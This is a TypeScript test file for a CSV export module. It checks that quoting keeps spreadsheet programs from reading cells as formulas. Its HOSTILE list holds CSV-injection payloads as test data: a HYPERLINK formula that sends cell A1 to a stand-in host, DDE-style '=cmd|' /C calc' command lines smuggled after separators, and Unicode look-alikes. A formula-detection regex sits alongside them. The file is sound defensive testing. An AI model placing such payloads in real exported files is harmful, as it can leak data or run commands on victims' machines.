import { describe, expect, test } from 'bun:test'
import * as XLSX from 'xlsx'
import { csvCell, csvText } from './csv.server'

/** What a spreadsheet program makes of the file: every cell, split on `separator` (quotes honoured). */
function cellsOf(text: string, separator: string): XLSX.CellObject[] {
  const book = XLSX.read(text.replace(/^\uFEFF/, ''), { type: 'string', FS: separator, raw: false })
  const sheet = book.Sheets[book.SheetNames[0] ?? ''] ?? {}
  return Object.entries(sheet)
    .filter(([key]) => !key.startsWith('!'))
    .map(([, cell]) => cell as XLSX.CellObject)
}

const FORMULA_CHAR = /^[\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B\t\r]/

const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"clic")',
  '+cmd',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  "Juan;=cmd|' /C calc'!A0",
  "Juan,=cmd|' /C calc'!A0",
  'Juan\t=1+1',
  'Juan|@SUM(1)',
  'Juan\n=1+1',
  '\uFF1D1+1',
  '\uFF0Bcmd',
  '\uFE661+1',
  'Ana; \uFF20SUM(A1)',
]

describe('CSV', () => {
  test('every text field is quoted, quotes doubled; numbers stay numbers; null is empty', () => {
    expect(csvCell('Juan')).toBe('"Juan"')
    expect(csvCell('dijo "hola", y se fue')).toBe('"dijo ""hola"", y se fue"')
    expect(csvCell(42)).toBe('42')
    expect(csvCell(null)).toBe('')
    expect(csvText(['a', 'b'], [[1, 'x']])).toBe('\uFEFF"a","b"\r\n1,"x"\r\n')
  })

  for (const separator of [',', ';', '\t']) {
    test(`a spreadsheet that splits on ${JSON.stringify(separator)} reads no formula, and every hostile value as text`, () => {
      const text = csvText(['nombre', 'total'], HOSTILE.map((name, i) => [name, i]))
      const cells = cellsOf(text, separator)
      expect(cells.length).toBeGreaterThan(HOSTILE.length)
      expect(cells.filter((cell) => cell.f !== undefined)).toEqual([])
      for (const cell of cells) if (typeof cell.v === 'string') expect(cell.v).not.toMatch(FORMULA_CHAR)
    })
  }

  test('a program that splits on any separator without honouring quotes still finds no cell that starts a formula', () => {
    const text = csvText(['nombre'], HOSTILE.map((name) => [name]))
    const pieces = text.split(/[,;\t|\r\n]/).map((piece) => piece.replace(/^[\s"]+/, ''))
    expect(pieces.filter((piece) => FORMULA_CHAR.test(piece))).toEqual([])
  })

  test('ordinary text is untouched, apart from the quoting', () => {
    for (const name of ['María José', 'Zona 10, 5a avenida', 'Pedido #12 - mesa 3', 'correo@ejemplo.gt', '2x1']) {
      const [cell] = cellsOf(csvText(['x'], [[name]]), ',').slice(1)
      expect(cell?.v).toBe(name)
    }
  })
})
